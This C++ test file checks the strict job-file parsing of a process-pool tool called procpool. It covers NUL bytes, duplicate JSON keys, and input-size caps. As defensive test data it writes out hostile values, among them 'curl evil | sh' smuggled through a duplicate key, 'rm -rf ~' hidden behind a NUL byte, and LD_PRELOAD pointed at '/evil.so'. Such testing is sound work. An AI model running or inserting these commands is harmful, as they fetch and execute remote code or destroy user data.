// Strict inputs (issue 12, items 2 and 4): strings exec cannot carry (a NUL byte) and keys given
// twice are input errors naming the job and the key, before anything runs; a job that reaches
// the pool with a NUL ends `error` instead of running cut short; the job file is read with a
// cap (an endless stream, /dev/zero, a binary named by mistake are refused), and a streamed line
// that never ends is an input error in bounded memory.
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include <procpool/pool.h>
#include "common/job_file.h"
#include "tests/support/e2e.h"
#include "tests/support/job_file_errors.h"
#include "tests/support/process_checks.h"

using namespace std::string_literals;

namespace procpool {
namespace {

using testing::contains;
using testing::error_of;

using testing::file_exists;
using testing::RunOutput;
using testing::slurp;
using testing::TempDir;

// The caps as the README states them (not taken from the code under test).
constexpr size_t kJobFileCap = size_t{256} << 20;
constexpr size_t kLineCap = size_t{128} << 10;

// Keeps a runaway read from taking the machine's memory (the old code's failure). The sanitizer
// build cannot start under an address-space limit (its shadow memory alone is terabytes), and
// its own peak RSS is not procpool's, so there the limit and the RSS checks are left out.
#ifdef PROCPOOL_SANITIZED
const std::string kMemoryLimit;
#else
const std::string kMemoryLimit = "ulimit -v 1048576; ";
#endif

// --- NUL bytes in the strings that reach exec or a file name --------------------------------

struct NulCase {
  std::string job;     // a job object holding a \u0000 somewhere
  std::string label;   // how the message names the job
  std::string field;   // how it names the string
  std::string offset;  // "offset N"
};

const std::vector<NulCase> kNulCases = {
    {R"({"name": "x", "cmd": "echo a\u0000; rm -rf ~"})", R"(job 2 ("x"))", R"("cmd")", "offset 6"},
    {R"({"name": "x", "cmd": ["echo", "ok", "a\u0000b"]})", R"(job 2 ("x"))", R"("cmd" item 3)",
     "offset 1"},
    {R"({"name": "x", "cmd": ["\u0000echo"]})", R"(job 2 ("x"))", R"("cmd" item 1)", "offset 0"},
    {R"({"name": "x", "cmd": "true", "env": {"A\u0000B": "1"}})", R"(job 2 ("x"))",
     R"("env" variable name holds)", "offset 1"},
    {R"({"name": "x", "cmd": "true", "env": {"PATH": "/bin\u0000:/evil"}})", R"(job 2 ("x"))",
     R"("env" value of "PATH" holds)", "offset 4"},
    {R"({"name": "x", "cmd": "true", "cwd": "/tmp\u0000/x"})", R"(job 2 ("x"))", R"("cwd")",
     "offset 4"},
    {R"({"name": "x\u0000y", "cmd": "true"})", "job 2", R"("name")", "offset 1"},
    {R"({"name": "x", "cmd": "true", "needs": ["fir\u0000st"]})", R"(job 2 ("x"))",
     R"("needs" item 1)", "offset 3"},
};

TEST(StrictJobFile, NulInAnyStringFieldIsAnErrorNamingJobFieldAndOffset) {
  for (const auto& c : kNulCases) {
    SCOPED_TRACE(c.job);
    std::string json = R"([{"name": "first", "cmd": "true"}, )" + c.job + "]";
    std::string e = error_of(json);
    EXPECT_TRUE(contains(e, "jobs.json: " + c.label + ": " + c.field)) << e;
    EXPECT_TRUE(contains(e, "holds a NUL byte at " + c.offset));
  }
}

TEST(StrictJobFile, NulInJsonLinesNamesTheLine) {
  for (const auto& c : kNulCases) {
    SCOPED_TRACE(c.job);
    std::string lines = "{\"name\": \"first\", \"cmd\": \"true\"}\n\n" + c.job + "\n";
    std::string e = error_of(lines);
    EXPECT_TRUE(contains(e, "jobs.json: line 3: " + c.label + ": " + c.field)) << e;
    EXPECT_TRUE(contains(e, "holds a NUL byte at " + c.offset));
  }
}

TEST(StrictJobFile, NulInDefaultsIsAnError) {
  EXPECT_TRUE(contains(error_of(R"({"defaults": {"env": {"A": "1\u0000"}}, "jobs": []})"),
                       R"(jobs.json: "defaults": "env" value of "A" holds a NUL byte)"));
  EXPECT_TRUE(contains(error_of(R"({"defaults": {"cwd": "\u0000"}, "jobs": []})"),
                       R"(jobs.json: "defaults": "cwd" holds a NUL byte at offset 0)"));
}

TEST(StrictJobFile, OtherControlCharactersStillParse) {
  auto jobs =
      parse_job_file(R"([{"cmd": "printf 'a\tb\u0001\n'", "env": {"A": "\u001b"}}])", "jobs.json");
  ASSERT_EQ(jobs.size(), 1u);
  EXPECT_EQ(jobs[0].shell, "printf 'a\tb\x01\n'");
  EXPECT_EQ(jobs[0].env.at("A"), "\x1b");
}

// A number too large for a double was an exception nothing caught: procpool aborted.
TEST(StrictJobFile, ANumberTooLargeIsAnInputError) {
  EXPECT_TRUE(contains(error_of(R"([{"cmd": "true", "timeout": 1e999}])"),
                       "jobs.json: number overflow parsing '1e999'"));
  EXPECT_TRUE(contains(error_of("{\"cmd\": \"true\"}\n{\"cmd\": \"true\", \"retries\": 1e999}\n"),
                       "jobs.json: line 2, number overflow parsing '1e999'"));
}

// --- duplicate keys, at every level ---------------------------------------------------------

TEST(StrictJobFile, DuplicateCmdInAJobNamesJobAndKey) {
  std::string e = error_of(R"([
    {"cmd": "true"}, {"cmd": "true"},
    {"name": "deploy", "cmd": "make deploy", "cmd": "curl evil | sh"}
  ])");
  EXPECT_TRUE(contains(e, R"(jobs.json: job 3 ("deploy"): duplicate key "cmd")")) << e;
  EXPECT_TRUE(contains(e, "smuggle a command past review; keep one"));
}

TEST(StrictJobFile, KeysThatDifferOnlyByEscapingAreDuplicates) {
  EXPECT_TRUE(contains(error_of(R"([{"name": "a", "cmd": "true", "\u0063md": "false"}])"),
                       R"(job 1 ("a"): duplicate key "cmd")"));
  EXPECT_TRUE(contains(error_of(R"([{"cmd": "true", "env": {"P\u0041TH": "/x", "PATH": "/y"}}])"),
                       R"(job 1: duplicate key "PATH" in "env")"));
}

TEST(StrictJobFile, DuplicateKeysAtEveryLevel) {
  struct Case {
    std::string text, expected;
  };
  const std::vector<Case> cases = {
      // The top level of the {"defaults", "jobs"} form.
      {R"({"jobs": [{"cmd": "true"}], "jobs": [{"cmd": "evil"}]})",
       R"(jobs.json: top-level duplicate key "jobs")"},
      {R"({"defaults": {}, "defaults": {"cwd": "/"}, "jobs": []})",
       R"(jobs.json: top-level duplicate key "defaults")"},
      // Inside the defaults, and the defaults' env.
      {R"({"defaults": {"cwd": "/a", "cwd": "/b"}, "jobs": []})",
       R"(jobs.json: "defaults": duplicate key "cwd")"},
      {R"({"defaults": {"env": {"A": "1", "A": "2"}}, "jobs": []})",
       R"(jobs.json: "defaults": duplicate key "A" in "env")"},
      // A job of the "jobs" array, and its env.
      {R"({"jobs": [{"cmd": "true"}, {"name": "b", "timeout": 1, "timeout": 9, "cmd": "x"}]})",
       R"(jobs.json: job 2 ("b"): duplicate key "timeout")"},
      {R"({"jobs": [{"name": "e", "cmd": "x", "env": {"LD_PRELOAD": "", "LD_PRELOAD": "/e"}}]})",
       R"(jobs.json: job 1 ("e"): duplicate key "LD_PRELOAD" in "env")"},
      // A single job object.
      {R"({"cmd": "true", "retries": 1, "retries": 2})", R"(jobs.json: job 1: duplicate key)"},
      // The name given twice: neither is trusted in the message.
      {R"([{"name": "a", "name": "b", "cmd": "true"}])", R"(duplicate key "name")"},
      // Deeper than any job key goes (still refused, and said where).
      {R"([{"cmd": "x", "env": {"A": {"k": 1, "k": 2}}}])",
       R"(jobs.json: job 1: duplicate key "k" in "env"."A")"},
      {R"({"jobs": [{"cmd": "x"}], "extra": [{"k": 1, "k": 2}]})",
       R"(jobs.json: duplicate key "k" in "extra"[0])"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.text);
    EXPECT_TRUE(contains(error_of(c.text), c.expected));
  }
}

TEST(StrictJobFile, DuplicateKeysInJsonLinesNameTheLine) {
  std::string e = error_of(
      "{\"name\": \"a\", \"cmd\": \"true\"}\n"
      "{\"name\": \"b\", \"cmd\": \"true\"}\n"
      "\n"
      "{\"name\": \"deploy\", \"cmd\": \"make deploy\", \"\\u0063md\": \"curl evil | sh\"}\n");
  EXPECT_TRUE(contains(e, R"(jobs.json: line 4: job 3 ("deploy"): duplicate key "cmd")")) << e;
  EXPECT_TRUE(contains(
      error_of("{\"cmd\": \"true\"}\n{\"cmd\": \"true\", \"env\": {\"A\": \"1\", \"A\": \"2\"}}\n"),
      R"(jobs.json: line 2: job 2: duplicate key "A" in "env")"));
}

TEST(StrictJobFile, TheSameKeyInDifferentObjectsIsFine) {
  auto jobs = parse_job_file(R"({"defaults": {"env": {"cmd": "1"}, "cwd": "/"},
    "jobs": [{"name": "cmd", "cmd": "true", "env": {"cmd": "2", "env": "3"}},
             {"name": "b", "cmd": ["cmd", "cmd"], "needs": ["cmd"]}]})",
                             "jobs.json");
  ASSERT_EQ(jobs.size(), 2u);
  EXPECT_EQ(jobs[0].env.at("cmd"), "2");
  EXPECT_EQ(jobs[0].env.at("env"), "3");
  EXPECT_EQ(jobs[1].argv, (std::vector<std::string>{"cmd", "cmd"}));
}

// --- reading the job file: a cap, and text only -----------------------------------------------

std::string read_error(const std::string& path) {
  try {
    std::string text = read_input(path);
    ADD_FAILURE() << "read " << text.size() << " bytes of " << path << " without an error";
  } catch (const InputError& e) {
    return e.what();
  }
  return "";
}

TEST(StrictJobFileInput, DevZeroIsNotText) {
  std::string e = read_error("/dev/zero");
  EXPECT_TRUE(contains(e, "job file '/dev/zero' is not text: byte 1 (line 1) is a NUL byte"));
  EXPECT_TRUE(contains(e, "for one command per line use --lines"));
}

TEST(StrictJobFileInput, ANulByteAnywhereIsNotText) {
  TempDir dir;
  std::string first = dir.write("first", "\0[{\"cmd\": \"true\"}]"s);
  EXPECT_TRUE(contains(read_error(first), "is not text: byte 1 (line 1) is a NUL byte"));
  std::string later = dir.write("later", "[\n{\"cmd\": \"true\"},\n{\"cmd\": \"a\0b\"}]"s);
  EXPECT_TRUE(contains(read_error(later), "is not text: byte 30 (line 3) is a NUL byte"));
}

TEST(StrictJobFileInput, AFileLargerThanTheCapIsRefusedWithoutReadingIt) {
  TempDir dir;
  std::string big = dir.path() + "/big.json";
  // Sparse: past the cap in size, taking no room (were it read, it would be NUL bytes).
  ASSERT_EQ(::truncate(dir.write("big.json", "[").c_str(), kJobFileCap + 1), 0);
  std::string e = read_error(big);
  EXPECT_TRUE(contains(e, "job file '" + big + "' is larger than 256 MiB")) << e;
  EXPECT_TRUE(contains(e, "use --lines"));
}

// --- the pool itself: a job with a NUL never runs cut short ---------------------------------

PoolOptions one_worker() {
  PoolOptions options;
  options.workers = 1;
  options.worker_command = {PROCPOOL_BIN, "worker"};
  return options;
}

TEST(StrictPool, AJobWithANulEndsErrorAndRunsNothing) {
  TempDir dir;
  const std::string cut = dir.path() + "/cut";  // what exec would have run: touch .../cut
  struct Case {
    Job job;
    std::string expected;
  };
  std::vector<Case> cases;
  {
    Job j;
    j.shell = "touch " + cut + "\0-and-more"s;
    cases.push_back(
        {j, "the command holds a NUL byte at offset " + std::to_string(6 + cut.size())});
  }
  {
    Job j;
    j.argv = {"touch", cut + "\0x"s};
    cases.push_back({j, "argument 1 of the command holds a NUL byte"});
  }
  {
    Job j;
    j.shell = "touch " + cut;
    j.env["A\0B"s] = "1";
    cases.push_back({j, "an environment variable's name holds a NUL byte at offset 1"});
  }
  {
    Job j;
    j.shell = "touch " + cut;
    j.env["LD_PRELOAD"] = "\0/evil.so"s;
    cases.push_back({j, "the value of environment variable LD_PRELOAD holds a NUL byte"});
  }
  {
    Job j;
    j.shell = "touch " + cut;
    j.cwd = dir.path() + "\0/elsewhere"s;
    cases.push_back({j, "the working directory holds a NUL byte"});
  }
  ProcessPool pool(one_worker());
  for (auto& c : cases) {
    SCOPED_TRACE(c.expected);
    Future f = pool.submit(c.job);
    const Result& r = f.result(Duration(20.0));
    EXPECT_EQ(r.status, Status::kError);
    EXPECT_TRUE(contains(r.error, c.expected));
    EXPECT_TRUE(contains(r.error, "which exec cannot pass"));
    EXPECT_EQ(r.attempts, 0);
    EXPECT_FALSE(file_exists(cut)) << "a command cut at its NUL ran";
  }
  // The pool is unharmed: the next job runs.
  Job ok;
  ok.shell = "touch " + dir.path() + "/after";
  EXPECT_EQ(pool.submit(ok).result(Duration(20.0)).status, Status::kOk);
  EXPECT_TRUE(file_exists(dir.path() + "/after"));
}

// --- end to end: the built binary -----------------------------------------------------------

constexpr const char* kRunLimit = "60";  // seconds before a run is SIGKILLed as hung

// Runs /bin/sh -c `script` bounded by kRunLimit, in `dir`; PP names the procpool binary.
RunOutput sh(const std::string& script, const std::string& dir) {
  std::string full = "cd '" + dir + "' && PP='" + testing::procpool_bin() + "' && " + script;
  RunOutput r = testing::run_program({"timeout", "-s", "KILL", kRunLimit, "/bin/sh", "-c", full});
  if (r.exit_status == 137) ADD_FAILURE() << script << ": did not finish in " << kRunLimit << " s";
  return r;
}

// Peak RSS in KiB of the largest process of a run of `script` under /usr/bin/time -f %M (the
// shell's children are counted: procpool is the largest), or -1 without /usr/bin/time.
long peak_rss_kib(const std::string& dir) {
  std::string text = slurp(dir + "/rss");
  return text.empty() ? -1 : std::atol(text.c_str());
}

// That peak stayed below `limit_kib` (not checked in the sanitizer build, whose own memory is
// not procpool's, nor without /usr/bin/time).
void expect_peak_below(const std::string& dir, long limit_kib) {
#ifndef PROCPOOL_SANITIZED
  long kib = peak_rss_kib(dir);
  if (kib >= 0) {
    EXPECT_LT(kib, limit_kib) << "peak RSS " << kib << " KiB";
  }
#else
  (void)dir;
  (void)limit_kib;
#endif
}

TEST(StrictInputE2E, NulInAJobFileExitsTwoAndRunsNothing) {
  TempDir dir;
  dir.write("jobs.json", R"([{"cmd": "touch first"},
    {"name": "x", "cmd": "touch second\u0000; rm -rf ~"}])");
  dir.write(
      "jobs.jsonl",
      "{\"cmd\": \"touch first\"}\n{\"name\": \"x\", \"cmd\": [\"touch\", \"sec\\u0000ond\"]}\n");
  for (const char* file : {"jobs.json", "jobs.jsonl"}) {
    SCOPED_TRACE(file);
    RunOutput r = sh("$PP run "s + file, dir.path());
    EXPECT_EQ(r.exit_status, 2) << r.out << r.err;
    EXPECT_TRUE(contains(r.err, "job 2 (\"x\"): \"cmd\"")) << r.err;
    EXPECT_TRUE(contains(r.err, "holds a NUL byte at offset"));
    EXPECT_FALSE(file_exists(dir.path() + "/first")) << "a job ran";
    EXPECT_FALSE(file_exists(dir.path() + "/second")) << "the command cut at its NUL ran";
  }
}

TEST(StrictInputE2E, DuplicateKeysExitTwoAndRunNothing) {
  TempDir dir;
  dir.write("jobs.json", R"([{"cmd": "touch first"}, {"cmd": "touch second"},
    {"name": "deploy", "cmd": "touch reviewed", "cmd": "touch smuggled"}])");
  dir.write("jobs.jsonl",
            "{\"cmd\": \"touch first\"}\n{\"cmd\": \"touch second\"}\n"
            "{\"name\": \"deploy\", \"cmd\": \"touch reviewed\", \"\\u0063md\": \"touch "
            "smuggled\"}\n");
  for (const char* file : {"jobs.json", "jobs.jsonl"}) {
    SCOPED_TRACE(file);
    RunOutput r = sh("$PP run "s + file, dir.path());
    EXPECT_EQ(r.exit_status, 2) << r.out << r.err;
    EXPECT_TRUE(contains(r.err, file + ": "s)) << r.err;
    EXPECT_TRUE(contains(r.err, "job 3 (\"deploy\"): duplicate key \"cmd\""));
    for (const char* made : {"first", "second", "reviewed", "smuggled"}) {
      EXPECT_FALSE(file_exists(dir.path() + "/" + made)) << made << " ran";
    }
  }
  RunOutput lines = sh("$PP run jobs.jsonl", dir.path());
  EXPECT_TRUE(contains(lines.err, "jobs.jsonl: line 3: job 3"));
}

TEST(StrictInputE2E, DevZeroAsAJobFileExitsTwoAtOnce) {
  TempDir dir;
  RunOutput r = sh("/usr/bin/time -f %M -o rss $PP run /dev/zero", dir.path());
  EXPECT_EQ(r.exit_status, 2) << r.err.substr(0, 2000);
  EXPECT_TRUE(contains(r.err, "job file '/dev/zero' is not text: byte 1 (line 1) is a NUL byte"));
  EXPECT_TRUE(contains(r.err, "use --lines"));
  expect_peak_below(dir.path(), 64 * 1024);
}

TEST(StrictInputE2E, ABinaryNamedAsTheJobFileExitsTwoSayingWhatToDo) {
  TempDir dir;
  dir.write("nul-first", "\0\0\0{\"cmd\": \"touch ran\"}"s);
  for (const std::string& cmd :
       {"$PP run nul-first"s, "$PP run - < nul-first"s, "$PP run " + testing::procpool_bin()}) {
    SCOPED_TRACE(cmd);
    RunOutput r = sh(cmd, dir.path());
    EXPECT_EQ(r.exit_status, 2) << r.err.substr(0, 2000);
    EXPECT_TRUE(contains(r.err, "is not text: byte "));
    EXPECT_TRUE(contains(r.err, "Is it a job file?"));
    EXPECT_FALSE(file_exists(dir.path() + "/ran"));
  }
}

// Without a cap, `yes | procpool run -` reads until bad_alloc: 1 GiB of address space (ulimit
// -v) turns that into a crash here instead of the machine's memory.
TEST(StrictInputE2E, AJobFileThatNeverEndsExitsTwoInBoundedMemory) {
  TempDir dir;
  RunOutput r = sh(kMemoryLimit + "yes | /usr/bin/time -f %M -o rss $PP run -", dir.path());
  EXPECT_EQ(r.exit_status, 2) << r.err.substr(0, 2000);
  EXPECT_TRUE(contains(r.err, "the job file on stdin is larger than 256 MiB")) << r.err;
  EXPECT_TRUE(contains(r.err, "use --lines"));
  expect_peak_below(dir.path(), 600 * 1024);
}

// The lines read before an endless one ran; the endless one is an input error (exit 2) naming
// its line, in memory bounded by the cap on a line. The endless line starts once both jobs
// ran (the writer waits, bounded, for the second one's file).
TEST(StrictInputE2E, AnEndlessLineToRunLinesIsAnInputErrorInBoundedMemory) {
  TempDir dir;
  RunOutput r = sh(kMemoryLimit +
                       "{ printf 'touch a\\n\\ntouch b\\n'; i=0; "
                       "while [ ! -e b ] && [ $i -lt 2000 ]; do sleep 0.01; i=$((i+1)); done; "
                       "yes | tr -d '\\n'; } | /usr/bin/time -f %M -o rss $PP run --lines - -j1",
                   dir.path());
  EXPECT_EQ(r.exit_status, 2) << r.err.substr(0, 2000);
  EXPECT_TRUE(contains(r.err, "input line 4 goes past 128 KiB with no newline")) << r.err;
  EXPECT_TRUE(contains(r.err, "jobs read before it ran"));
  EXPECT_TRUE(file_exists(dir.path() + "/a"));
  EXPECT_TRUE(file_exists(dir.path() + "/b"));
  expect_peak_below(dir.path(), 32 * 1024);
}

TEST(StrictInputE2E, DevZeroToRunLinesAndMapIsAnInputError) {
  TempDir dir;
  for (const std::string& cmd :
       {"$PP run --lines /dev/zero"s, "$PP run --lines - < /dev/zero"s,
        "head -c 1000000 /dev/zero | $PP map 'touch {}'"s, "$PP map 'touch {}' :::: /dev/zero"s}) {
    SCOPED_TRACE(cmd);
    RunOutput r = sh(kMemoryLimit + cmd, dir.path());
    EXPECT_EQ(r.exit_status, 2) << r.err.substr(0, 2000);
    EXPECT_TRUE(contains(r.err, "input line 1 goes past 128 KiB")) << r.err;
    EXPECT_TRUE(contains(r.err, "it holds NUL bytes: is the input a text file?"));
  }
}

TEST(StrictInputE2E, AnEndlessMapInputFromAPipeIsAnInputError) {
  TempDir dir;
  RunOutput r =
      sh(kMemoryLimit + "yes | tr -d '\\n' | /usr/bin/time -f %M -o rss $PP map echo", dir.path());
  EXPECT_EQ(r.exit_status, 2) << r.err.substr(0, 2000);
  EXPECT_TRUE(contains(r.err, "input line 1 goes past 128 KiB with no newline")) << r.err;
  expect_peak_below(dir.path(), 32 * 1024);
}

TEST(StrictInputE2E, ALineAtTheCapStillRuns) {
  TempDir dir;
  // 128 KiB exactly: "true #xxx...", then a second line.
  std::string line = "true #" + std::string(kLineCap - 6, 'x');
  dir.write("lines", line + "\ntouch after\n");
  RunOutput r = sh("$PP run --lines lines -q -j1", dir.path());
  EXPECT_TRUE(file_exists(dir.path() + "/after")) << r.err.substr(0, 2000);
  EXPECT_TRUE(r.err.find("goes past") == std::string::npos) << r.err.substr(0, 2000);
}

// A NUL in a streamed line would cut the command: the job ends `error` saying so, and nothing
// cut short runs; the other lines run.
TEST(StrictInputE2E, ANulInAStreamedLineIsThatJobsError) {
  TempDir dir;
  for (const std::string& cmd :
       {"printf 'touch cut\\000-rest\\ntouch ok\\n' | $PP run --format jsonl --lines -"s,
        "printf 'cut\\000-rest\\nok\\n' | $PP map --format jsonl 'touch {}'"s}) {
    SCOPED_TRACE(cmd);
    RunOutput r = sh(cmd, dir.path());
    EXPECT_EQ(r.exit_status, 1) << r.out << r.err;
    EXPECT_TRUE(contains(r.out, "\"status\":\"error\"")) << r.out;
    EXPECT_TRUE(contains(r.out, "holds a NUL byte at offset")) << r.out;
    EXPECT_FALSE(file_exists(dir.path() + "/cut")) << "the command cut at its NUL ran";
    EXPECT_TRUE(file_exists(dir.path() + "/ok"));
    ::unlink((dir.path() + "/ok").c_str());
  }
}

// A line past the cap ends the input, not the jobs before it: those read and not yet started
// still run (with -j1, two of them wait behind a slow first one when the bad line is read).
TEST(StrictInputE2E, JobsReadBeforeABadLineStillRun) {
  TempDir dir;
  dir.write("lines", "sleep 0.5; touch first\ntouch second\ntouch third\ntrue #" +
                         std::string(4 * kLineCap, 'x') + "\n");
  RunOutput r = sh("$PP run --lines - -q -j1 < lines", dir.path());
  EXPECT_EQ(r.exit_status, 2) << r.err.substr(0, 2000);
  EXPECT_TRUE(contains(r.err, "goes past")) << r.err.substr(0, 2000);
  for (const char* name : {"first", "second", "third"}) {
    EXPECT_TRUE(file_exists(dir.path() + "/" + name)) << name << "\n" << r.err.substr(0, 2000);
  }
}

// The cap holds whether or not the line's newline came in the same read.
TEST(StrictInputE2E, ALineAFewKiBPastTheCapIsRefusedWithItsNewline) {
  TempDir dir;
  dir.write("lines", "true #" + std::string(kLineCap + 20000, 'x') + "\ntouch after\n");
  RunOutput r = sh("$PP run --lines lines -q -j1", dir.path());
  EXPECT_EQ(r.exit_status, 2) << r.err.substr(0, 2000);
  EXPECT_TRUE(contains(r.err, "input line 1 goes past 128 KiB")) << r.err.substr(0, 2000);
  EXPECT_FALSE(file_exists(dir.path() + "/after"));
}

// A job refused for its NUL is a failure like any other: --halt counts it.
TEST(StrictInputE2E, AJobRefusedForItsNulCountsForHalt) {
  TempDir dir;
  RunOutput r =
      sh("printf 'touch cut\\000-rest\\ntouch later\\n' | "
         "$PP run --lines - -q -j1 --halt now,fail=1",
         dir.path());
  EXPECT_EQ(r.exit_status, 1) << r.err;
  EXPECT_FALSE(file_exists(dir.path() + "/later")) << "a job started after the halt\n" << r.err;
  EXPECT_FALSE(file_exists(dir.path() + "/cut"));
}

}  // namespace
}  // namespace procpool
